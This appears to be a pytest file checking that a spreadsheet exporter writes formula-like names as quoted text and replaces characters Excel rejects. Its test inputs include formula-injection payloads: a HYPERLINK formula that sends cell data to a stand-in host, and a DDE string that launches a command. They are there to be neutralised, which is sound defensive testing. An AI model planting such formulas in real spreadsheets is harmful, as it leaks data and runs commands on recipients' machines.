"""Safe spreadsheets: a cell that would read as a formula is written as text, and the
characters Excel refuses never stop an export."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from antsclient.export import excel_text, to_excel
from antsclient.models import Cerfa, OnlineRequest, RequestStatus

openpyxl = pytest.importorskip("openpyxl")

T0 = dt.datetime(2026, 11, 2, 9, 30, tzinfo=dt.UTC)


def _request(name: str, **changes: Any) -> OnlineRequest:
    status = RequestStatus.DRAFT
    return OnlineRequest(
        **{
            "number": "3223",
            "cerfa": Cerfa.C02,
            "status": status,
            "status_label": status.label,
            "type_label": "Inscription",
            "created": T0,
            "modified": T0,
            "applicant_name": name,
            **changes,
        }
    )


def _cells(path: Path) -> list[Any]:
    sheet = openpyxl.load_workbook(path).active
    return [row[0] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
        "+33 6 12 34 56 78",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_a_formula_is_written_as_text(tmp_path: Path, name: str) -> None:
    path = to_excel([_request(name), _request("DUPONT Jean", student_id="S1")], tmp_path / "l.xlsx")
    formula, plain = _cells(path)
    assert formula.data_type == "s"
    assert formula.value == _as_read(name)
    assert formula.quotePrefix
    assert (plain.value, plain.data_type) == ("DUPONT Jean", "s")


def test_an_unlinked_formula_keeps_its_red(tmp_path: Path) -> None:
    path = to_excel([_request("=1+1")], tmp_path / "l.xlsx")
    (cell,) = _cells(path)
    assert cell.data_type == "s"
    assert cell.font.color.rgb == "FFFF0000"


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ("DUPONT\x0bJean", "DUPONT Jean"),
        ("A\x00B\x1fC", "A B C"),
        ("MARTIN \ud800Léa", "MARTIN \ufffdLéa"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
    ],
)
def test_characters_excel_refuses_are_replaced(tmp_path: Path, name: str, written: str) -> None:
    path = to_excel([_request(name, neph=name)], tmp_path / "l.xlsx")
    (cell,) = _cells(path)
    assert cell.value == written
    assert excel_text(name) == written


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.text(max_size=60))
def test_any_name_exports(tmp_path: Path, name: str) -> None:
    path = to_excel([_request(name, neph=name)], tmp_path / "any.xlsx")
    (cell,) = _cells(path)
    assert cell.data_type == "s" or cell.value is None
    # What Excel shows is the name, cleaned — never something it computed.
    assert (cell.value or "") == _as_read(excel_text(name))


def _as_read(text: str) -> str:
    """``text`` as a spreadsheet reads it back (XML turns line ends into ``\\n``)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")
